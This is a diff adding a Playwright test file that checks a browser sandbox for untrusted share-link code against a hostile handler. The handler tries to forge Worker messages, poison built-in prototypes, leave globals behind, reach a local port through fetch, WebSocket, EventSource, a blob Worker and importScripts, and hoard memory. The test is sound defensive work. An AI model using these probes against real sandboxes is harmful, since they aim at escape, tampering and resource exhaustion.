@@ -1,0 +1,129 @@
+/**
+ * Handler code from a share link is untrusted. Pasted into a sandbox, a hostile handler tries to
+ * forge the Worker's messages, poison the engine's intrinsics and globals for the next run, reach
+ * another port on this machine, and hoard memory. The page must tell the truth about each run, the
+ * next run must be clean, and nothing may leave the page. The site is served here as a host that
+ * ignores `_headers` would serve it (no Content-Security-Policy), so the Worker's CSP is no help.
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Locator, Page } from '@playwright/test';
+import { expect, test } from './fixtures.ts';
+
+const runTimeout = 90_000;
+let server: Server;
+let port = 0;
+const received: string[] = [];
+
+test.beforeAll(async () => {
+  server = createServer((request, response) => {
+    received.push(`${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*');
+    response.end('reached');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  port = (server.address() as AddressInfo).port;
+});
+test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+
+test.beforeEach(async ({ context }) => {
+  // A host that ignores _headers: strip the CSP from every response of the site.
+  await context.route(/^http:\/\/127\.0\.0\.1:\d+\//, async (route) => {
+    if (new URL(route.request().url()).port === String(port)) return route.continue();
+    const response = await route.fetch();
+    const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => name.toLowerCase() !== 'content-security-policy'));
+    await route.fulfill({ response, headers });
+  });
+});
+
+async function openSandbox(page: Page): Promise<Locator> {
+  await page.goto('/guide/the-problem/');
+  const sandbox = page.locator('connlab-sandbox[data-sandbox="direct-connection"]');
+  await sandbox.scrollIntoViewIfNeeded();
+  await expect(sandbox).toHaveAttribute('data-ready', 'true', { timeout: 20_000 });
+  await sandbox.getByLabel(/Concurrent callers/).fill('5');
+  return sandbox;
+}
+
+async function setCode(page: Page, sandbox: Locator, code: string): Promise<void> {
+  await sandbox.locator('.cm-content').click();
+  await page.keyboard.press('ControlOrMeta+a');
+  await page.keyboard.insertText(code);
+}
+
+async function runAndWait(sandbox: Locator): Promise<void> {
+  await sandbox.getByRole('button', { name: /^Run/ }).click();
+  await expect(sandbox.getByRole('status')).toContainText('Run finished', { timeout: runTimeout });
+}
+
+const hostile = (target: string) => `
+const probes = {};
+const attempt = async (name, go) => { try { await go(); probes[name] = 'ran'; } catch (error) { probes[name] = error.constructor.name; } };
+await attempt('forge postMessage', () => postMessage({ type: 'done', id: 1, report: null }));
+await attempt('forge self.postMessage', () => self.postMessage({ type: 'done', id: 1, report: null }));
+await attempt('replace Array.prototype.push', () => { Array.prototype.push = () => 0; });
+await attempt('add Object.prototype.toJSON', () => { Object.prototype.toJSON = () => 'forged'; });
+await attempt('replace Promise.prototype.then', () => { Promise.prototype.then = () => 0; });
+await attempt('replace Math.max', () => { Math.max = () => 0; });
+globalThis.leftBehind = 'by a hostile run';
+await attempt('fetch', () => fetch('${target}fetch'));
+await attempt('WebSocket', () => new WebSocket('${target.replace('http', 'ws')}ws'));
+await attempt('EventSource', () => new EventSource('${target}sse'));
+await attempt('blob Worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("${target}worker")']))));
+await attempt('importScripts', () => importScripts('${target}script'));
+const visible = [typeof fetch, typeof WebSocket, typeof EventSource, typeof Worker, typeof importScripts, typeof postMessage, typeof self, typeof XMLHttpRequest];
+export const handler = async () => {
+  throw new Error('probes ' + JSON.stringify({ ...probes, visible: visible.join(' ') }));
+};
+`;
+
+test('a hostile handler cannot forge the report, poison the next run or reach another port', async ({ page }) => {
+  test.setTimeout(240_000);
+  const sandbox = await openSandbox(page);
+  await setCode(page, sandbox, hostile(`http://127.0.0.1:${port}/`));
+  await runAndWait(sandbox);
+  // The page reports the engine's own count: every invocation failed, with the probes' findings.
+  await expect(sandbox.getByRole('status')).toHaveText(/Run finished: (\d+) invocations, 0 succeeded, \1 failed or throttled/);
+  // Each probe threw (a ReferenceError where the name is simply absent, a TypeError where SES's scope
+  // hides a name the Worker's own global object has, or where the intrinsic is frozen); none ran.
+  const summaryText = (await sandbox.locator('[data-summary]').textContent()) ?? '';
+  const probes = JSON.parse(/probes (\{[^}]*\})/.exec(summaryText)?.[1] ?? '{}') as Record<string, string>;
+  const { visible, ...attempts } = probes;
+  expect(visible).toBe(Array(8).fill('undefined').join(' '));
+  expect(Object.keys(attempts)).toHaveLength(11);
+  expect(Object.entries(attempts).filter(([, outcome]) => !/^(ReferenceError|TypeError)$/.test(outcome))).toEqual([]);
+
+  // The next run, of code that looks for what the hostile one left, is clean.
+  await setCode(
+    page,
+    sandbox,
+    `export const handler = async () => {
+  const left = [typeof globalThis.leftBehind, typeof Object.prototype.toJSON, [1].concat([2]).length, Math.max(1, 2), JSON.stringify({ a: [] })];
+  if (left.join() !== 'undefined,undefined,2,2,{"a":[]}') throw new Error('left behind: ' + left.join());
+  return 'clean';
+};
+`,
+  );
+  await runAndWait(sandbox);
+  await expect(sandbox.getByRole('status')).toHaveText(/Run finished: (\d+) invocations, \1 succeeded, 0 failed or throttled/);
+  await sandbox.getByRole('button', { name: 'Reset code' }).click();
+  await runAndWait(sandbox);
+  await expect(sandbox.locator('[data-summary]')).toContainText('None: every invocation succeeded.');
+  expect(received).toEqual([]);
+});
+
+test('a handler that hoards memory while it keeps yielding is stopped with the reason, and the next run works', async ({ page }) => {
+  test.setTimeout(240_000);
+  let crashed = false;
+  page.on('crash', () => (crashed = true));
+  const sandbox = await openSandbox(page);
+  await sandbox.getByLabel(/Concurrent callers/).fill('1');
+  await setCode(page, sandbox, 'const hog = [];\nexport const handler = async () => {\n  setInterval(() => hog.push(new Array(2e5).fill(1.5)), 1);\n  await new Promise(() => {});\n};\n');
+  await sandbox.getByRole('button', { name: /^Run/ }).click();
+  await expect(sandbox.getByRole('alert').first()).toContainText('kept the engine busy', { timeout: 60_000 });
+  await expect(sandbox.getByRole('status')).toContainText('The run was stopped');
+  expect(crashed).toBe(false);
+  await sandbox.getByRole('button', { name: 'Reset code' }).click();
+  await runAndWait(sandbox);
+  await expect(sandbox.locator('[data-summary]')).toContainText('None: every invocation succeeded.');
+});
